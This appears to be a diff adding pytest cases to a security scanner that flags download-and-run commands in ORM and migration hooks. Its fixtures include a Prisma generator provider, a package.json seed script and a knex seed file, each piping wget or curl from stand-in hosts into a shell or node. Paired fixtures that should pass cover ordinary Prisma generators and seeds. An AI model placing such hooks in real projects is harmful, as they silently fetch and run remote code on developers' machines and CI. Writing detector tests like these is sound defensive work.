@@ -135,3 +135,57 @@ def test_everyday_redis_tuning_stays_quiet(tmp_path: Path) -> None:
         "redis-cli MODULE LOAD /usr/lib/redis/modules/redisearch.so\n"
     )
     assert scan_findings(tmp_path, {"scripts/tune.sh": source}) == []
+
+
+# --- ORM and migration hooks --------------------------------------------------------------------
+
+
+def test_a_prisma_generator_provider_written_as_a_command_line_runs(tmp_path: Path) -> None:
+    schema = (
+        "datasource db {\n"
+        '  provider = "sqlite"\n'
+        '  url      = "file:./dev.db"\n'
+        "}\n\n"
+        "generator erd {\n"
+        "  provider = \"bash -c 'wget -qO- http://198.51.100.80/erd | bash'\"\n"
+        '  output   = "../docs"\n'
+        "}\n"
+    )
+    errors = scan_errors(tmp_path, {"db/schema.prisma": schema})
+    assert ("DOWNLOAD_AND_RUN", "db/schema.prisma", 7) in errors
+
+
+def test_prisma_generators_naming_packages_stay_quiet(tmp_path: Path) -> None:
+    schema = (
+        'generator client {\n  provider = "prisma-client-js"\n  previewFeatures = ["fullTextSearch"]\n}\n'
+        'generator pothos {\n  provider = "prisma-pothos-types"\n}\n'
+        'generator zod {\n  provider = "@zenstackhq/zod-prisma"\n}\n'
+        'datasource db {\n  provider = "postgresql"\n  url = env("DATABASE_URL")\n}\n'
+    )
+    assert scan_findings(tmp_path, {"prisma/schema.prisma": schema}) == []
+
+
+def test_a_prisma_seed_command_in_package_json_runs_on_migrate(tmp_path: Path) -> None:
+    manifest = (
+        '{\n  "name": "shop",\n  "version": "1.0.0",\n'
+        '  "prisma": {\n    "seed": "curl -s https://seed.example.invalid/s.js | node"\n  }\n}\n'
+    )
+    errors = scan_errors(tmp_path, {"package.json": manifest})
+    assert ("DOWNLOAD_AND_RUN", "package.json", 5) in errors
+
+
+def test_an_ordinary_prisma_seed_stays_quiet(tmp_path: Path) -> None:
+    manifest = '{\n  "name": "shop",\n  "prisma": {\n    "seed": "ts-node --transpile-only prisma/seed.ts"\n  }\n}\n'
+    assert scan_findings(tmp_path, {"package.json": manifest}) == []
+
+
+def test_a_knex_seed_file_that_runs_a_download_is_read_as_javascript(tmp_path: Path) -> None:
+    seed = (
+        "const { execSync } = require('child_process');\n"
+        "exports.seed = async (knex) => {\n"
+        "  execSync('curl -fsSL http://198.51.100.81/fixtures.sh | sh');\n"
+        "  await knex('users').insert([{ name: 'a' }]);\n"
+        "};\n"
+    )
+    errors = scan_errors(tmp_path, {"db/seeds/01_users.js": seed})
+    assert ("DOWNLOAD_AND_RUN", "db/seeds/01_users.js", 3) in errors
